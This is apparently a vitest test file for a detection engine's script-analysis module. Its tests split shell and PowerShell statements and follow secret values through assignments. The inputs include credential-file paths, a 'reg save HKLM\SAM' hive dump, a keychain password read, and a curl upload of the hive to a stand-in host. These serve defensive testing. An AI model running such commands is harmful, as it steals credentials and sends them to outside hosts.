// Round 28 (bashrec28): statements of a host script, home spellings and values tracked by name (host-statements.ts).

import { describe, expect, test } from "vitest";
import {
  assignedName,
  mentions,
  normalisedPaths,
  statementsOf,
  trackedValues,
  writtenFiles,
} from "../../../src/engine/injection/host-statements.ts";

describe("host script statements", () => {
  test.each([
    ["$env:USERPROFILE\\.ssh\\id_ed25519", "~/.ssh/id_ed25519"],
    ["%APPDATA%\\gh\\hosts.yml", "~/AppData/Roaming/gh/hosts.yml"],
    ["/mnt/c/Users/lena/.aws/credentials", "~/.aws/credentials"],
    ["C:\\Users\\Public\\x.txt", "C:/Users/Public/x.txt"],
    ["/Users/Shared/notes.txt", "/Users/Shared/notes.txt"],
  ])("normalisedPaths(%s) = %s", (s, want) => {
    expect(normalisedPaths(s)).toBe(want);
  });

  test("splits lines, ; && || and cmd's spaced &, drops comment lines, keeps a URL's & and VBScript's string &", () => {
    expect(
      statementsOf(
        '# note\n$a = 1; $b = 2\nrem cmd comment\ncmd /c "x & y" && z\ncurl \'https://h.example/?a=1&b=2\'\np = q("%X%") & "\\y"',
      ),
    ).toEqual([
      "$a = 1",
      "$b = 2",
      'cmd /c "x',
      'y"',
      "z",
      "curl 'https://h.example/?a=1&b=2'",
      'p = q("%X%") & "\\y"',
    ]);
  });

  test.each([
    ["$tok = Get-Secret x", "tok"],
    ["pw=$(security find-generic-password -w)", "pw"],
    ["const data = await readFile(p)", "data"],
    ['Set http = CreateObject("MSXML2.XMLHTTP")', "http"],
    ["[byte[]]$buf = 0..10", "buf"],
    ["echo $x", null],
    ["if ($a -eq 1) { }", null],
  ])("assignedName(%s) = %s", (s, want) => {
    expect(assignedName(s)).toBe(want);
  });

  test("files written, and a tracked value named in any spelling", () => {
    expect(writtenFiles("Compress-Archive -Path a -DestinationPath $zip")).toEqual(["$zip"]);
    expect(writtenFiles("reg save HKLM\\SAM C:\\Users\\Public\\s.hiv")).toEqual(["C:\\Users\\Public\\s.hiv"]);
    expect(writtenFiles("hdiutil create -srcfolder ~/x /tmp/x.dmg")).toEqual(["/tmp/x.dmg"]);
    expect(writtenFiles("echo hi > /dev/null")).toEqual([]);
    expect(mentions("curl -T /mnt/c/Users/Public/s.hiv https://h.example", "C:\\Users\\Public\\s.hiv")).toBe(true);
    expect(mentions("Write-Output $tokens", "tok")).toBe(false);
    expect(mentions("irm -Body $tok", "tok")).toBe(true);
  });

  test("values derive through assignments and written files, in order", () => {
    const st = statementsOf("$a = secret\n$b = $a.Trim()\n$c = other\nSet-Content -Path out.txt -Value $b");
    expect([...trackedValues(st, (s) => s.includes("secret"))]).toEqual(["a", "b", "out.txt"]);
  });
});
